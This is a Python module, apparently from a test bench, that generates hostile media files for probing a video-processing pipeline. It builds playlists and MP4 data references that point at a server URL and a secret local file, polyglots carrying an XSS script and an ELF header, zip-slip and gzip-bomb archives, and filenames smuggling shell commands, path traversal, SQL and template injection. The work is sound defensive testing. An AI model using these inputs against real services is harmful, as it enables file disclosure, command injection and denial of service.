"""Files that are something else than they say: playlists, references to other files and servers, polyglots."""

import gzip
import io
import struct
import zipfile
from collections.abc import Iterator

from bench.hostile.boxes import box, find, full_box, places, replaced
from bench.hostile.files import HostileFile, Seed

_SELF_CONTAINED = 1
_WORDS = b"<!doctype html><script>alert(1)</script>"


def disguises(clip: Seed, url: str, secret: str) -> Iterator[HostileFile]:
    """Every disguise.

    Args:
        clip: A sound MP4.
        url: Of a server that must hear nothing.
        secret: Path of a file that must not be opened.
    """
    yield from _playlists(url, secret)
    yield from _references(clip, url, secret)
    yield from _polyglots(clip)
    yield from _no_clips()


def _playlists(url: str, secret: str) -> Iterator[HostileFile]:
    scripts = {
        "hls": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}/a.ts\n#EXTINF:1,\nfile://{secret}\n#EXT-X-ENDLIST\n",
        "hls-key": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n"
        '#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:1,\n{secret}\n',
        "hls-map": '#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MAP:URI="{secret}"\n#EXTINF:1,\n{url}/a.mp4\n',
        "hls-concat": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nconcat:{secret}|{url}/a\n#EXT-X-ENDLIST\n",
        "concat": "ffconcat version 1.0\nfile {url}/a.ts\nfile {secret}\n",
        "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet '
        'mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{url}/a.mp4</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>",
        "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n",
        "asx": '<asx version="3.0"><entry><ref href="{url}/a.asf"/></entry></asx>',
        "pls": "[playlist]\nFile1={url}/a.mp4\nNumberOfEntries=1\n",
        "smil": '<smil><body><video src="{url}/a.mp4"/></body></smil>',
        "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret}"/></svg>',
        "rtsp-text": "rtsptext{url}/a\n",
        "ffmetadata": ";FFMETADATA1\ntitle={secret}\n",
        "idx": "# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n",
        "srt": "1\n00:00:00,000 --> 00:00:01,000\n{url}\n",
    }
    for name, script in scripts.items():
        for suffix in ("mp4", "mkv", "avi"):
            written = (script.format(url=url, secret=secret) + f"\n# {suffix}\n").encode()
            yield HostileFile(f"{name}.{suffix}".encode(), "playlist", written)


def _references(clip: Seed, url: str, secret: str) -> Iterator[HostileFile]:
    """The media of a track lies elsewhere, says the file: ISO/IEC 14496-12, 8.7.2; QuickTime's alias likewise."""
    for name, place in (("url", f"{url}/media.mp4"), ("file", f"file://{secret}"), ("path", secret)):
        for kind in (b"url ", b"urn ", b"alis", b"rsrc"):
            dref = full_box(b"dref", struct.pack(">I", 1), full_box(kind, place.encode() + b"\0"))
            content = replaced(clip.content, find(clip.content, b"dref"), dref)
            yield HostileFile(f"reference-{kind.decode().strip()}-{name}.mp4".encode(), "data reference", content)
    dref = full_box(b"dref", struct.pack(">I", 1), full_box(b"alis", _alias(secret)))
    content = replaced(clip.content, find(clip.content, b"dref"), dref)
    yield HostileFile(b"reference-alias.mov", "data reference", content)
    trak = find(clip.content, b"trak")
    tref = box(b"tref", box(b"subt", struct.pack(">I", 0xFFFFFFFF)), box(b"chap", struct.pack(">I", 1)))
    with_reference = clip.content[trak.start : trak.end] + tref
    body = with_reference[8:]
    content = replaced(clip.content, trak, box(b"trak", body))
    yield HostileFile(b"subtitle-reference.mp4", "data reference", content)
    rmra = box(b"rmra", box(b"rmda", full_box(b"rdrf", b"url ", struct.pack(">I", len(url)), url.encode())))
    yield HostileFile(b"reference-movie.mov", "data reference", box(b"moov", rmra))
    yield HostileFile(b"reference-movie-too.mov", "data reference", clip.content + box(b"moov", rmra))


def _alias(path: str) -> bytes:
    """An alias record that names a path. Source: QuickTime file format, "Alias"; ffmpeg's mov_read_dref."""
    name = path.encode()
    fixed = bytes(10) + bytes([27]) + bytes(27) + bytes(12) + bytes([63]) + bytes(63) + bytes(16)
    nested = struct.pack(">hh", 0, 0) + bytes(16)
    records = struct.pack(">hH", 2, len(name)) + name + b"\0" * (len(name) % 2)
    records += struct.pack(">hH", 18, len(name)) + name + b"\0" * (len(name) % 2)
    return fixed + nested + records + struct.pack(">hH", -1, 0)


def _polyglots(clip: Seed) -> Iterator[HostileFile]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../escape.txt", "out")
    yield HostileFile(b"page-in-front.mp4", "polyglot", box(b"free", _WORDS) + clip.content)
    yield HostileFile(b"page-behind.mp4", "polyglot", clip.content + _WORDS)
    yield HostileFile(b"archive-behind.mp4", "polyglot", clip.content + packed.getvalue())
    yield HostileFile(b"paper-in-front.mp4", "polyglot", box(b"free", b"%PDF-1.7\n") + clip.content)
    yield HostileFile(b"program-behind.mp4", "polyglot", clip.content + b"\x7fELF" + bytes(200))
    yield HostileFile(b"picture-in-front.mp4", "polyglot", b"GIF89a" + clip.content)
    words = box(b"data", bytes(8), b"\xff\xfe\x80\x1b[2J")
    title = box(b"udta", full_box(b"meta", box(b"ilst", box(b"\xa9nam", words))))
    moov = find(clip.content, b"moov")
    yield HostileFile(b"title-of-bytes.mp4", "polyglot", clip.content + title)
    inside = replaced(clip.content, moov, box(b"moov", clip.content[moov.content : moov.end], title))
    yield HostileFile(b"title-of-bytes-inside.mp4", "polyglot", inside)
    for moment in (0xFFFFFFFF, 1, 0x80000000):
        changed = bytearray(clip.content)
        for place in places(clip.content):
            if place.kind in (b"mvhd", b"mdhd"):
                struct.pack_into(">II", changed, place.content + 4, moment, moment)
        yield HostileFile(f"created-{moment}.mp4".encode(), "polyglot", bytes(changed))


def _no_clips() -> Iterator[HostileFile]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(30_000_000))
    ftyp = box(b"ftyp", b"isom", bytes(4), b"isomiso2avc1mp41")
    contents = {
        "empty": b"",
        "one-byte": b"\0",
        "brand-alone": ftyp,
        "brand-and-void": ftyp + box(b"mdat", bytes(1000)),
        "zeros": bytes(100_000),
        "words": b"no video at all\n" * 100,
        "archive": packed.getvalue(),
        "gzip-bomb": gzip.compress(bytes(30_000_000)),
        "mpeg-start-codes": b"\0\0\1\xba" * 20_000,
        "transport-stream": (b"\x47" + bytes(187)) * 500,
        "matroska-size": b"\x1a\x45\xdf\xa3" + b"\xff" * 8 + bytes(50),
        "riff-size": b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xff",
    }
    for name, content in contents.items():
        yield HostileFile(f"{name}.mp4".encode(), "no clip", content)


NAMES = (
    b"..%2f..%2f..%2fetc%2fpasswd.mp4",
    b"-i.mp4",
    b"file:secret.mp4",
    b"concat:a|b.mp4",
    b"http:..127.0.0.1.mp4",
    b"%05d.mp4",
    b"$(touch escaped).mp4",
    b"`touch escaped`.mp4",
    b"a;touch escaped;.mp4",
    b"'; DROP TABLE items; --.mp4",
    b"<script>alert(1)<.mp4",
    b"{{7*7}}.mp4",
    b"line\nbreak.mp4",
    b"carriage\rreturn.mp4",
    b"bell\x07\x1b[2J\x1b]0;title\x07.mp4",
    "right\u202eto\u202cleft.mp4".encode(),
    "e\u0301-and-\u00e9.mp4".encode(),
    "\U0001f6aa\U0001f4e6.mp4".encode(),
    "zero\u200bwidth\ufeff.mp4".encode(),
    b"not-utf8-\xff\xfe\x80.mp4",
    b"half-a-letter-\xc3.mp4",
    b"CON.mp4",
    b"trailing space .mp4",
    b"\\\\server\\share.mp4",
    b"C:\\windows.mp4",
    b"n" * 251 + b".mp4",
    b"2026-99-99T99-99-99Z.mp4",
    b"0000-00-00 00-00-00.mp4",
    b"9999-12-31T23-59-59+14:00.mp4",
)
"""Names that mean something to a shell, a database, a page, a terminal, ffmpeg or a file system."""


def named(clip: Seed) -> Iterator[HostileFile]:
    """By each of ``NAMES`` a clip in turn sound and broken, for a broken one is named in reports; each another file."""
    for number, name in enumerate(NAMES):
        content = clip.content if number % 2 else clip.content[:100]
        yield HostileFile(name, "name", content + box(b"free", struct.pack(">I", number)))
